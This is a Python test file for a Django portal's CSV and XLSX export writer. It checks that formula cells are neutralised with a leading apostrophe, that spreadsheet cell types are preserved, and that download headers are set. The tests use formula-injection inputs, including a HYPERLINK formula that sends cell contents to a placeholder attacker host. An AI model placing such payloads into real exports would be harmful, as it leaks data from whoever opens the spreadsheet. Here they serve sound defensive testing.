"""The shared export writer: formula cells neutralised in CSV and XLSX, typed XLSX cells, download headers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.exports import export_response
from tests.factories import ApplicationFactory, IntakeFactory, RubricCriterionFactory, StaffFactory, scored_review

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_neutralises_every_cell_that_a_spreadsheet_would_run():
    response = export_response(filename="t", header=["=title", "plain"], rows=[[f, "ok"] for f in FORMULAS])

    assert _csv(response) == [["'=title", "plain"], *[["'" + f, "ok"] for f in FORMULAS]]
    assert (response["Content-Disposition"], response["Content-Type"]) == (
        'attachment; filename="t.csv"',
        "text/csv; charset=utf-8",
    )
    assert (response["Cache-Control"], response["X-Content-Type-Options"]) == ("private, no-store", "nosniff")


def test_xlsx_neutralises_formulas_and_keeps_numbers_and_dates_typed():
    when = datetime.datetime(2026, 3, 1, 9, 30, tzinfo=datetime.UTC)
    rows = [["=1+1", Decimal("73.33"), 4, datetime.date(2026, 3, 1), when, None, -5]]

    response = export_response(
        filename="t", header=["Title", "Mean", "Done", "Day", "At", "Empty", "Delta"], rows=rows, fmt="xlsx"
    )
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert values[1] == [
        "'=1+1",
        73.33,
        4,
        datetime.datetime(2026, 3, 1),
        datetime.datetime(2026, 3, 1, 9, 30),
        None,
        -5,
    ]
    assert [sheet.cell(2, c).data_type for c in (1, 2, 3, 4)] == ["s", "n", "n", "d"]
    assert response["Content-Disposition"] == 'attachment; filename="t.xlsx"'
    assert "no-store" in response["Cache-Control"]


@pytest.fixture
def intake_with_rubric(db):
    intake = IntakeFactory(closed=True)
    RubricCriterionFactory(intake=intake, name="Relevance", weight=60, max_score=3, order=0)
    RubricCriterionFactory(intake=intake, name="Commitment", weight=40, max_score=6, order=1)
    return intake


def test_ranking_csv_neutralises_team_titles_and_reviewer_names(client, intake_with_rubric):
    application = ApplicationFactory(intake=intake_with_rubric, under_review=True, title='=HYPERLINK("http://x","y")')
    scored_review(application=application, scores=[2, 5], full_name="@Ana")
    client.force_login(StaffFactory())

    rows = _csv(client.get(reverse("selection:ranking_csv", args=[intake_with_rubric.pk])))

    assert (rows[1][2], rows[1][10]) == ('\'=HYPERLINK("http://x","y")', "'@Ana: 73.33")
